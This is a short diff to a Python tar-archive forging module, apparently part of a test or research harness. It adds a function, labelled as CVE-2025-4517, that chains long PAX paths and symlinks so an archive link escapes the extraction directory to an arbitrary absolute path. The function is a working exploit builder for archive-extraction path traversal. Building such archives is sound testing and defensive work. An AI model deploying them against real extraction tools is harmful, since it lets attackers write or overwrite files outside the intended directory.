@@ -101,3 +101,18 @@ def root_tree() -> bytes:
     busybox = forger.file(b"bin/busybox", Path("/bin/busybox").read_bytes(), mode=0o755)
     links = (forger.hard_link(f"bin/{applet}".encode(), b"bin/busybox") for applet in APPLETS)
     return b"".join((forger.directory(b"bin"), busybox, *links, forger.directory(b"tmp", mode=0o1777)))
+
+
+def long_chain(outside: bytes) -> list[bytes]:
+    """CVE-2025-4517: a path so long that realpath no longer follows it, then "escape", a link out of what was not
+    followed, to the absolute path ``outside``."""
+    component, steps = b"d" * 247, [bytes((letter,)) for letter in b"abcdefghijklmnop"]
+    parts, path = [], b""
+    for step in steps:
+        parts.append(forger.named(path + component, forger.directory(b"x")))
+        parts.append(forger.pax({b"path": path + step, b"linkpath": component}) + forger.symlink(b"x", b"x"))
+        path += component + b"/"
+    long_link = b"/".join(steps) + b"/" + b"l" * 100
+    up = forger.pax({b"path": long_link, b"linkpath": b"../" * len(steps)}) + forger.symlink(b"x", b"x")
+    escape = long_link + b"/../../../../../../../.." + outside
+    return [*parts, up, forger.pax({b"path": b"escape", b"linkpath": escape}) + forger.symlink(b"x", b"x")]
